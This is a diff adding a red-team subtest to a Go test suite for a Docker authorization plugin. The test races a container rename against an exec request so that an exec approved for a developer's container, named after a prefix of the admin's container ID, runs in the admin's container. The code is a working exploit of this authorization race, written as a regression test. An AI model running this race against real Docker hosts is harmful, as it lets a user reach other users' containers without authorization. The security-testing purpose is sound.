@@ -556,6 +556,75 @@ func TestRedTeamAuthz(t *testing.T) {
 		assert.False(t, won, "a start judged on the link's safe target mounted the host's /")
 	})
 
+	// Bypass: a reference is resolved twice, by the plugin (through
+	// dockerd) and then by dockerd's handler, whose order is full ID,
+	// name, unique ID prefix. The developer names its own container
+	// after a prefix of the admin's container's ID, asks for an exec in
+	// it, and renames it at the same time: judged on the developer's
+	// container by name, the exec is made in the admin's by prefix, and
+	// recorded as the developer's.
+	t.Run("Bypass_exec_races_a_rename_to_an_admins_id_prefix", func(t *testing.T) {
+		try := func(method, path, body string) (int, string) {
+			var rd io.Reader
+			if body != "" {
+				rd = strings.NewReader(body)
+			}
+			req, err := http.NewRequest(method, base+path, rd)
+			if err != nil {
+				return 0, err.Error()
+			}
+			if body != "" {
+				req.Header.Set("Content-Type", "application/json")
+			}
+			resp, err := clients["dev"].Do(req)
+			if err != nil {
+				return 0, err.Error()
+			}
+			defer resp.Body.Close()
+			b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
+			return resp.StatusCode, string(b)
+		}
+		prefix := adminBox[:12]
+		deadline := time.Now().Add(40 * time.Second)
+		tries, won := 0, false
+		for !won && time.Now().Before(deadline) {
+			tries++
+			if st, out := try("POST", "/containers/create?name="+prefix, `{"Image":"tool:1","Cmd":["/tool","sleep"]}`); st != 201 {
+				t.Fatalf("create %s: %d %s", prefix, st, out)
+			}
+			if st, out := try("POST", "/containers/"+prefix+"/start", ""); st/100 != 2 {
+				t.Fatalf("start %s: %d %s", prefix, st, out)
+			}
+			done := make(chan struct{})
+			var execStatus int
+			var execOut string
+			go func() {
+				execStatus, execOut = try("POST", "/containers/"+prefix+"/exec", `{"Cmd":["/tool","euid"]}`)
+				close(done)
+			}()
+			time.Sleep(time.Duration(tries%8) * 250 * time.Microsecond)
+			try("POST", "/containers/"+prefix+"/rename?name="+prefix+"-old", "")
+			<-done
+			if execStatus == 201 {
+				var e struct {
+					ID string `json:"Id"`
+				}
+				_ = json.Unmarshal([]byte(execOut), &e)
+				st, out := try("GET", "/exec/"+e.ID+"/json", "")
+				if st == 200 && strings.Contains(out, adminBox) {
+					won = true
+					t.Logf("try %d: exec %s, allowed to the developer, is in the admin's container: %s", tries, e.ID, tailString(out, 200))
+					st, out = try("POST", "/exec/"+e.ID+"/start", `{"Detach":true}`)
+					t.Logf("the developer starts it: %d %s", st, out)
+				}
+			}
+			try("DELETE", "/containers/"+prefix+"-old?force=1", "")
+			try("DELETE", "/containers/"+prefix+"?force=1", "")
+		}
+		t.Logf("%d tries", tries)
+		assert.False(t, won, "the developer made an exec in the admin's container")
+	})
+
 	// Bypass: a developer's container runs as root and writes its
 	// workspace, a host directory; a set-user-ID root file written there
 	// is root for the developer's own account on the host.
